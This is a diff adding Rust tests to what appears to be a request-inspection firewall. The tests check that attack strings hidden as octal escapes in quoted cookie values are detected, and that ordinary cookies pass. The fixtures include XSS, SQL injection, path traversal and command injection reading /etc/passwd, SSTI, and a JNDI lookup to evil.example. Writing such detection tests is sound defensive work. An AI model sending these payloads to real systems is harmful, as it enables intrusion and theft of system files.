@@ -198,3 +198,62 @@ fn an_unknown_transfer_encoding_is_refused() {
         assert!(!refused(&v), "{cte}: {v:?}");
     }
 }
+
+/// `s` as a quoted cookie value with every character but letters written
+/// as a `\ooo` octal escape, and letters alternately as `\c`.
+fn octal_cookie(s: &str) -> String {
+    let mut out = String::from("\"");
+    for (i, b) in s.bytes().enumerate() {
+        if b.is_ascii_alphabetic() && i % 2 == 0 {
+            out.push('\\');
+            out.push(b as char);
+        } else if b.is_ascii_alphabetic() {
+            out.push(b as char);
+        } else {
+            out.push_str(&format!("\\{b:03o}"));
+        }
+    }
+    out.push('"');
+    out
+}
+
+#[test]
+fn quoted_cookie_escapes_are_decoded() {
+    let cookie = "session=abc; q=\"\\074script\\076alert\\0501\\051\\074\\057script\\076\"";
+    let v = run("GET", "/", &[("cookie", cookie)], b"");
+    assert!(
+        v.findings
+            .iter()
+            .any(|f| f.family == Family::Xss && f.location == "cookie.q"),
+        "{v:?}"
+    );
+    for (payload, family) in [
+        (XSS, Family::Xss),
+        ("1' UNION SELECT password FROM users--", Family::Sqli),
+        ("../../../../etc/passwd", Family::PathTraversal),
+        (";cat /etc/passwd", Family::Rce),
+        ("${jndi:ldap://evil.example/a}", Family::Jndi),
+        ("{{''.__class__.__mro__[1].__subclasses__()}}", Family::Ssti),
+    ] {
+        let cookie = format!("session=abc; q={}", octal_cookie(payload));
+        let v = run("GET", "/", &[("cookie", &cookie)], b"");
+        assert!(
+            v.findings.iter().any(|f| f.family == family),
+            "{payload} as {cookie}: {v:?}"
+        );
+        assert!(refused(&v));
+    }
+}
+
+#[test]
+fn ordinary_quoted_cookies_are_clean() {
+    for cookie in [
+        "messages=\"6e2d4c1e7f$[[\\\"__json_message\\\"\\0540\\05425\\054\\\"Saved.\\\"]]\"",
+        "name=\"John \\\"Johnny\\\" Doe\"; lang=\"en-US\"",
+        "path=\"C:\\\\Users\\\\me\"",
+        "pref=\"a\\054b\\054c\"",
+    ] {
+        let v = run("GET", "/", &[("cookie", cookie)], b"");
+        assert!(!refused(&v), "{cookie}: {v:?}");
+    }
+}
